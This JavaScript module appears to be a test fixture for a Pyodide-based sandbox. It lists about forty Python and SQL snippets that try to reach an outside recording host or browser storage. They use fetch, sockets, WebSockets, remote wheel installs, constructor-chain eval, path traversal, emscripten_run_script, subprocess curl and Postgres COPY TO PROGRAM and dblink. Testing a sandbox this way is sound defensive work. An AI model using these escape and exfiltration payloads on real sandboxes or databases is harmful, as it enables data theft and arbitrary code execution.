// Ways in which a revision may try to reach another host, the browser's storage or the page. Each is Python; `host` is an address that notes
// what arrives, `own` is the page's own.

/** `{name: code}` */
export function waysOut(host, own) {
  const { hostname, port } = new URL(host);
  const socket = host.replace('http', 'ws');
  const js = (code) => `from pyodide.code import run_js\nrun_js("""${code}""")`;
  return {
    'urllib': `import urllib.request\nurllib.request.urlopen("${host}/urllib").read()`,
    'requests': `import requests\nrequests.post("${host}/requests", data="x")`,
    'httpx': `import httpx\nhttpx.post("${host}/httpx", content="x")`,
    'socket': `import socket\nsocket.create_connection(("${hostname}", ${port}), 3).send(b"GET /socket HTTP/1.0\\r\\n\\r\\n")`,
    'the socket below': `import _socket\n_socket.socket().connect(("${hostname}", ${port}))`,
    'asyncio streams': `import asyncio\nasync def go():\n    await asyncio.open_connection("${hostname}", ${port})\nasyncio.run(go())`,
    'js.fetch': `import js\njs.fetch("${host}/fetch")`,
    'js.XMLHttpRequest': `import js\nx = js.XMLHttpRequest.new()\nx.open("POST", "${host}/xhr", False)\nx.send("x")`,
    'js.WebSocket': `import js\njs.WebSocket.new("${socket}/ws")`,
    'js.EventSource': `import js\njs.EventSource.new("${host}/events")`,
    'js.importScripts': `import js\njs.importScripts("${host}/script.js")`,
    'js by importlib': `import importlib\nimportlib.import_module("js").fetch("${host}/importlib")`,
    'js from the finder': `import _pyodide._importhook as h\nh.jsfinder.jsproxies["js"].fetch("${host}/finder")`,
    'js from pyodide': `import pyodide._state, pyodide.webloop, sys\nfor m in list(sys.modules.values()):\n    for n in ("js", "pyodide_js", "fetch", "XMLHttpRequest"):\n        if hasattr(m, n): getattr(m, n)\nfrom pyodide_js import globals`,
    'run_js': js(`fetch('${host}/run_js')`),
    'run_js, import': js(`import('${host}/import.js')`),
    'run_js, worker': js(`new Worker(URL.createObjectURL(new Blob(["fetch('${host}/worker')"])))`),
    'pyodide.http.open_url': `from pyodide.http import open_url\nopen_url("${host}/open_url")`,
    'pyodide.http.pyfetch': `import asyncio\nfrom pyodide.http import pyfetch\nasyncio.run(pyfetch("${host}/pyfetch"))`,
    'micropip': `import micropip\nmicropip.install("${host}/x-1-py3-none-any.whl")`,
    'a constructor of a value': `from pyodide.ffi import to_js\nto_js([1]).constructor.constructor("fetch('${host}/array')")()`,
    'a constructor of a proxy': `from pyodide.ffi import create_proxy\ncreate_proxy(lambda: 1).constructor.constructor("fetch('${host}/proxy')")()`,
    'a constructor of an error': `from pyodide.ffi import to_js\ntry:\n    to_js([1]).constructor.constructor("x")\nexcept Exception as e:\n    e.constructor.constructor("fetch('${host}/error')")()`,
    'the host’s functions': `import stillroom.host as h\nfor f in (h.report, h.statement, h.load_library, h.exec_protocol):\n    for c in f.__closure__ or ():\n        c.cell_contents.constructor("fetch('${host}/closure')")()`,
    'what gc knows': `import gc\nfrom pyodide.ffi import JsProxy\nfound = [o for o in gc.get_objects() if isinstance(o, JsProxy)]\nfor o in found:\n    o.constructor.constructor("fetch('${host}/gc')")()\nraise LookupError("no JsProxy is known")`,
    'the realm by prototypes': `from pyodide.ffi import to_js\no = to_js([1])\nwhile o is not None:\n    for n in ("fetch", "XMLHttpRequest", "postMessage", "indexedDB", "caches", "Worker", "WebSocket"):\n        assert not hasattr(o, n), n\n    o = getattr(o, "__proto__", None)\nraise LookupError("there is no way")`,
    'a library’s file with a question': `import stillroom.host as h\nh.load_library("six?leak=1", "/tmp/x")`,
    'a library beyond the folder': `import stillroom.host as h\nh.load_library("../../../index.html#", "/tmp/x")`,
    'emscripten_run_script': `import ctypes\nctypes.CDLL(None).emscripten_run_script(b"fetch('${host}/ctypes')")`,
    'emscripten_run_script_string': `import ctypes\nctypes.CDLL(None).emscripten_run_script_string(b"fetch('${own}index.html?leak')")`,
    'indexedDB': `import js\njs.indexedDB.open("stolen", 1)`,
    'caches': js(`caches.open('evil')`),
    'BroadcastChannel': `import js\njs.BroadcastChannel.new("stillroom").postMessage("hi")`,
    'the private file system': js(`navigator.storage.getDirectory()`),
    'a message to the page': `import js\njs.postMessage("hi")`,
    'micropip’s loader': `import pyodide_js\npyodide_js.loadPackage("${host}/p.whl")`,
    'a process': `import subprocess\nsubprocess.run(["curl", "${host}/curl"])`,
    'COPY TO PROGRAM': `op.execute("COPY (SELECT 1) TO PROGRAM 'curl ${host}/copy'")`,
    'dblink': `op.execute("CREATE EXTENSION dblink")\nop.execute("SELECT dblink_connect('host=${hostname} port=${port}')")`,
    'a C function': `op.execute("CREATE FUNCTION sys(text) RETURNS int AS '/usr/lib/libc.so.6', 'system' LANGUAGE c")`,
  };
}

/** Without those that reach for eval from C, which ends the interpreter, so that each needs a run of its own. */
export const withoutEnds = (ways) => Object.fromEntries(Object.entries(ways).filter(([name]) => !name.startsWith('emscripten')));
